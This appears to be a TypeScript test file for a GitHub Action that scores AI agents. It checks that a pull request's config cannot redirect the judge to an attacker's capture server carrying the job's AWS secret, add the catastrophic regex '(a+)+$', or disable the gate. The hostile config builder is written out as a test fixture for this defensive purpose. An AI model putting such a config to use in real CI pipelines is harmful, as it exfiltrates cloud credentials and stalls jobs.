// A pull request's config file in a job that holds credentials: the attack reproduced (the config
// points the judge at an attacker's endpoint with the job's AWS secret as its key, adds a
// catastrophic redact pattern and turns the gate off) and shown to hold: nothing is sent, the keys
// come from the base branch, the comment says what was ignored, and the fabricating agent still fails.
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse, stringify } from 'yaml';
import { PR_EVENT, actionSuite, exampleConfig, githubContext, runAction } from '../helpers/action.js';
import { startCaptureServer } from '../helpers/capture-server.js';

const suite = actionSuite();
const inputs = (over: Record<string, string> = {}) => ({
  config: suite.config(),
  'github-token': 'test-token',
  baseline: 'file',
  'baseline-file': resolve('fixtures/results/careful'),
  ...over,
});
const JOB_SECRET = 'job-aws-secret-0f9e8d7c6b5a4f3e2d1c';

let attacker: Awaited<ReturnType<typeof startCaptureServer>>;
beforeAll(async () => {
  attacker = await startCaptureServer();
});
afterAll(() => attacker.close());

/** The base's config (the suite's: heuristic judge) with the attacker's keys laid over it. */
const hostileConfig = () =>
  exampleConfig(2, (y) => {
    const c = parse(y);
    c.judge = {
      provider: 'openai',
      endpoint: attacker.url.replace('/v1/traces', '/v1'),
      api_key_env: 'AWS_SECRET_ACCESS_KEY',
      model: 'gpt-x',
    };
    c.redact = ['(a+)+$'];
    c.gate = { fail_on: 'never' };
    return stringify(c);
  });

describe("the pull request's config in a job that holds credentials", () => {
  it('cannot send the credentials anywhere, run its patterns, or turn the gate off: the base decides, the comment says so', async () => {
    expect(readFileSync(suite.config(), 'utf8')).toContain('judge: { provider: heuristic }');
    const config = hostileConfig();
    // The pull request edited the config file: at the base commit the same path holds the base's.
    suite.base(config, readFileSync(suite.config(), 'utf8'));
    process.env.AWS_SECRET_ACCESS_KEY = JOB_SECRET;
    process.env.TRAVEL_AGENT_MODE = 'fabricate';
    const r = await runAction(suite.run(), inputs({ config }));
    expect(attacker.requests).toHaveLength(0);
    expect(r.outputs.verdict).toBe('fail'); // gate and judge from the base: the fabrication is caught
    const body = suite.gh().comments.get(7)!.at(-1)!.body;
    expect(body).toMatch(
      /The pull request.s config changes judge, redact, gate: ignored in this job, which holds credentials/,
    );
    expect(body).not.toContain(JOB_SECRET);
  });

  it('takes them from the pull request only when the workflow says trust-pr-config: true (trusted setups)', async () => {
    const config = hostileConfig();
    suite.base(config); // same-repository, trusted: the base already has it, so nothing is ignored
    process.env.AWS_SECRET_ACCESS_KEY = JOB_SECRET;
    const r = await runAction(suite.run(), inputs({ config, 'trust-pr-config': 'true', repeat: '1' }));
    // The opt-in is real: the judge goes where the config says, with the key it names.
    expect(attacker.requests.length).toBeGreaterThan(0);
    expect(attacker.requests[0].headers.authorization).toBe(`Bearer ${JOB_SECRET}`);
    expect(r.outputs.verdict).toBeDefined();
  });

  it("a fork's pull request (no OIDC token, so no AWS credentials) is judged by the heuristic, and the comment says why", async () => {
    const config = exampleConfig(1, (y) => y.replace('judge: { provider: heuristic }', 'judge: { provider: bedrock }'));
    suite.base(config);
    for (const k of Object.keys(process.env)) if (k.startsWith('AWS_')) delete process.env[k];
    process.env.AWS_EC2_METADATA_DISABLED = 'true';
    const fork = {
      ...PR_EVENT,
      pull_request: {
        ...PR_EVENT.pull_request,
        head: { ...PR_EVENT.pull_request.head, repo: { full_name: 'fork/r' } },
      },
    };
    const r = await runAction(suite.run(), inputs({ config }), githubContext(fork));
    expect(r.failed).toBeUndefined(); // the careful agent, one run a case: not blocked
    const body = suite.gh().comments.get(7)!.at(-1)!.body;
    expect(body).toMatch(
      /Scored by the offline heuristic judge: this job had no AWS credentials for the Bedrock judge \(a fork.s pull request gets none\)/,
    );
  });
});
